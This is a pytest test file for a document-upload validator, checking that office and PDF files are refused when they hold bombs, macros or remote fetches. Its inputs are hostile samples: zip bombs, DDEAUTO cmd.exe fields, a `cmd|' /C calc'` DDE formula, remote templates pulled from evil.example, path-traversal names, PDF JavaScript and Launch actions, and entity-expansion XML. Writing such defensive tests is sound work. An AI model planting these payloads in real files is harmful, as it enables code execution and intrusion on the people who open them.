"""What documents may hold: no bombs, no programs, nothing fetched, nothing under another's name."""

from __future__ import annotations

import io
import struct
import tracemalloc
import zipfile
import zlib
from contextlib import suppress

import pytest

from guidelines.results.files import LARGEST_FILE, Examined, Refused, examine
from tests.guidelines.files import made
from tests.guidelines.files.made import PDF, archive, open_text, relations, sheet, word
from tests.pace import in_pace, pace_of

SOON = 20  # times as long as an honest PDF of the greatest length; the worst takes three times as long
FIELD = "<w:p><w:r><w:instrText>{}</w:instrText></w:r></w:p>"


def refusal(content: bytes, name: str, declared: str = "") -> str:
    with pytest.raises(Refused) as refused:
        examine(content, name=name, declared=declared)
    return refused.value.words


def taken(content: bytes, name: str, declared: str = "") -> Examined:
    return examine(content, name=name, declared=declared)


@pytest.mark.parametrize(
    ("content", "name", "label"),
    [
        (PDF, "a.pdf", "PDF"),
        (word(), "a.docx", "DOCX"),
        (sheet(), "a.XLSX", "XLSX"),
        (open_text(), "a.odt", "ODT"),
    ],
)
def test_honest_documents_come_in_as_they_are(content, name, label):
    found = taken(content, name)

    assert (found.kind.label, found.content, found.notes) == (label, content, [])


def bomb(parts: int, size: int) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as packed:
        packed.writestr("[Content_Types].xml", made.content_types(f"{made.DOCX_TYPE}.main+xml", "word/document.xml"))
        for number in range(parts):
            packed.writestr(f"word/part{number}.xml", b" " * size)
    return target.getvalue()


@pytest.mark.parametrize(("parts", "size"), [(1, 150_000_000), (100_000, 1), (2_500, 10)])
def test_u01_bombs_are_refused_from_their_directory(parts, size, monkeypatch):
    content = bomb(parts, size)
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda *_part: pytest.fail("unpacked"))
    tracemalloc.start()

    words = refusal(content, "a.docx")

    assert tracemalloc.get_traced_memory()[1] < 20_000_000
    tracemalloc.stop()
    assert words.startswith("Unpacked, the file would be far larger")


def test_u01_a_directory_that_lies_about_sizes_is_refused():
    content = bytearray(word("<w:p><w:r><w:t>" + "x" * 50_000 + "</w:t></w:r></w:p>"))
    place = content.rfind(b"PK\x01\x02")
    struct.pack_into("<I", content, place + 24, 10)  # the unpacked size of the last part

    assert refusal(bytes(content), "a.docx").startswith("The file is damaged")


def test_u01_an_archive_in_the_document_is_refused():
    assert "embedded" in refusal(word(word__media__inner=archive({"x": "y"})), "a.docx")


def test_u01_packed_objects_of_a_pdf_are_unpacked_within_bounds():
    packed = zlib.compress(b" " * 60_000_000)
    content = b"%PDF-1.7\n1 0 obj<</Type/ObjStm>>stream\n" + packed + b"\nendstream endobj\n%%EOF"

    assert refusal(content, "a.pdf").startswith("Unpacked, the file would be far larger")


@pytest.mark.parametrize(
    ("content", "name", "words"),
    [
        (word(word__vbaProject_dot_bin=b"x"), "a.docx", "macros"),
        (word(more_types='<Override PartName="/x" ContentType="x.macroEnabled"/>'), "a.docx", "macros"),
        (word(word__activeX__activeX1_dot_xml="<x/>"), "a.docx", "macros"),
        (word(word__embeddings__run_dot_dat=b"MZ\x90\x00"), "a.docx", "embedded: word/embeddings/run.dat"),
        (word(word__embeddings__old_dot_dat=b"\xd0\xcf\x11\xe0\xa1\xb1"), "a.docx", "embedded"),
        (word(word__media__run_dot_exe=b"x"), "a.docx", "embedded"),
        (sheet(xl__macrosheets__sheet1_dot_xlm="<x/>"), "a.xlsx", "macros"),
        (open_text(Basic__Standard__script_dot_xml="<x/>"), "a.odt", "macros"),
        (open_text('<script:event-listener xlink:href="x"/>'), "a.odt", "macros"),
        (open_text('<text:dde-connection-decl office:dde-topic="x"/>'), "a.odt", "macros"),
    ],
)
def test_u03_macros_and_programs_are_refused(content, name, words):
    assert words in refusal(content, name)


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (word(word___rels__settings_dot_xml_dot_rels=relations(("r", kind, target, mode))), "a.docx")
        for kind, target, mode in [
            ("attachedTemplate", "https://evil.example/t.dotm", "External"),
            ("attachedTemplate", "\\\\evil.example\\t.dotm", ""),
            ("image", "http://evil.example/p.png", "External"),
            ("subDocument", "file:///c:/x", "External"),
        ]
    ]
    + [
        (open_text('<draw:image xlink:href="http://evil.example/p.png"/>'), "a.odt"),
        (open_text('<text:section-source xlink:href="\\\\evil.example\\x.odt"/>'), "a.odt"),
    ],
)
def test_u03_what_fetches_something_is_refused(content, name):
    assert "fetches something from elsewhere" in refusal(content, name)


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (word(FIELD.format("DDEAUTO c:\\\\windows\\\\cmd.exe")), "a.docx"),
        (word(FIELD.format(" DD") + FIELD.format("E cmd")), "a.docx"),
        (word('<w:p><w:fldSimple w:instr="DDE excel x"/></w:p>'), "a.docx"),
        (word(word__header1_dot_xml=f'<w:hdr xmlns:w="{made.W}">{FIELD.format("DDEAUTO x")}</w:hdr>'), "a.docx"),
        (sheet("cmd|' /C calc'!A0"), "a.xlsx"),
        (sheet(xl__externalLinks__externalLink1_dot_xml="<externalLink><ddeLink/></externalLink>"), "a.xlsx"),
    ],
)
def test_u03_dde_is_refused(content, name):
    assert "(DDE)" in refusal(content, name)


def test_u03_links_people_follow_and_ordinary_fields_come_in():
    link = relations(("r", "hyperlink", "https://example.org/", "External"))
    content = word(FIELD.format(" PAGE ") + FIELD.format("added"), word___rels__document_dot_xml_dot_rels=link)

    assert taken(content, "a.docx").kind.label == "DOCX"
    assert taken(sheet("A1*2"), "a.xlsx").kind.label == "XLSX"


@pytest.mark.parametrize(
    ("content", "name", "declared"),
    [
        (PDF, "a.docx", ""),
        (PDF, "a.pdf", "text/html"),
        (word(), "a.xlsx", made.XLSX_TYPE),
        (word(), "a.docx", "image/png"),
        (PDF, "invoice.exe.pdf", ""),
        (PDF, "a.docx.pdf", ""),
        (PDF, "a.pdf.html", ""),
        (PDF, "pdf", ""),
        (word(), "a.docm", ""),
        (archive({"x.txt": "y"}), "a.docx", ""),
        (b"\xd0\xcf\x11\xe0" + b"x" * 600, "a.docx", ""),
        (b"MZ\x90\x00", "a.pdf", "application/pdf"),
        (b"", "a.pdf", ""),
        (b"%PDF-1.7 without an end", "a.pdf", ""),
    ],
)
def test_u04_what_is_not_what_it_says_is_refused(content, name, declared):
    assert refusal(content, name, declared)


@pytest.mark.parametrize("declared", ["application/octet-stream", "application/zip", f"{made.DOCX_TYPE}; x=y", ""])
def test_u04_browsers_that_do_not_know_office_files_are_believed(declared):
    assert taken(word(), "Plan 2.1.docx", declared).name == "Plan 2.1.docx"


@pytest.mark.parametrize("name", ["../../evil.xml", "/etc/passwd", "word\\..\\..\\x.xml", "C:x.xml", "word//x.xml"])
def test_u05_parts_that_lead_elsewhere_are_refused(name):
    assert refusal(word(**{name.replace("/", "__"): "<x/>"}), "a.docx").startswith("The file is damaged")


def test_u05_two_parts_of_one_name_are_refused():
    assert refusal(word(WORD__document_dot_xml="<x/>"), "a.docx").startswith("The file is damaged")


def test_u06_a_file_over_the_limit_is_refused():
    assert "larger than 20 MB" in refusal(b"%PDF-" + b"x" * LARGEST_FILE, "a.pdf")


def test_u09_the_sender_is_told_of_names_in_the_properties():
    core = "<c xmlns:dc='http://purl.org/dc/elements/1.1/'><dc:creator>A. Author</dc:creator></c>"

    assert "A. Author" in taken(word(docProps__core_dot_xml=core), "a.docx").notes[0]
    assert "names its author" in taken(PDF.replace(b"<</Root", b"<</Author (A)/Root"), "a.pdf").notes[0]


@pytest.mark.parametrize(
    "active",
    [
        b"/S/JavaScript/JS(app.alert(1))",
        b"/S/J#61vaScript",
        b"/S /Launch/F(cmd.exe)",
        b"/Names<</EmbeddedFiles 3 0 R>>",
        b"/Type/EmbeddedFile",
        b"/Subtype/RichMedia",
        b"/XFA [1 0 R]",
        b"/Encrypt 4 0 R",
    ],
)
def test_u11_active_pdfs_are_refused(active):
    packed = b"<</Type/ObjStm/N 1>>stream\n" + zlib.compress(b"1 0 <<" + active + b">>") + b"\nendstream"

    assert refusal(PDF.replace(b"/Type/Catalog", b"/Type/Catalog" + active), "a.pdf")
    assert refusal(PDF.replace(b"trailer", packed + b" trailer"), "a.pdf")


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (PDF + b"<script>alert(1)</script>" + b" " * 2_000, "a.pdf"),
        (b"<html></html>" + PDF, "a.pdf"),
        (word() + b"<script>alert(1)</script>", "a.docx"),
        (b"<script>alert(1)</script>" + word(), "a.docx"),
        (b"<html><script>alert(1)</script></html>", "a.pdf"),
        (b"<html><script>alert(1)</script></html>", "a.jpg"),
    ],
)
def test_x03_two_files_in_one_are_refused(content, name):
    assert refusal(content, name)


def judge(content: bytes) -> None:
    for name in ("a.docx", "a.pdf"):
        with suppress(Refused):
            examine(content, name=name)


@pytest.fixture(scope="module")
def pace() -> float:
    page = b"7 0 obj<</Type/Page/Parent 2 0 R>>stream\n" + b"word " * 40 + b"\nendstream endobj\n"
    return pace_of(lambda: judge(b"%PDF-1.7\n" + page * (15_000_000 // len(page)) + b"%%EOF"))


@pytest.mark.parametrize(
    "content",
    [
        word(word__x_dot_xml="<x>" * 100_000),
        word(word__x_dot_xml='<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'),
        word(word__x_dot_xml="<x"),
        word(word__x_dot_xml='<?xml version="1.0" encoding="none"?><x/>'),
        b"%PDF-" + b"/ObjStm" * 2_000_000 + b"%%EOF",
        b"%PDF-" + b"/#41" * 4_000_000 + b"%%EOF",
        b"%PDF-" + b"/ObjStm stream" * 1_000_000 + b"%%EOF",
        b"PK\x03\x04" + b"PK\x05\x06" * 100_000,
    ],
)
def test_x13_hostile_documents_are_judged_quickly(content, pace):
    in_pace(lambda: judge(content), SOON * pace)
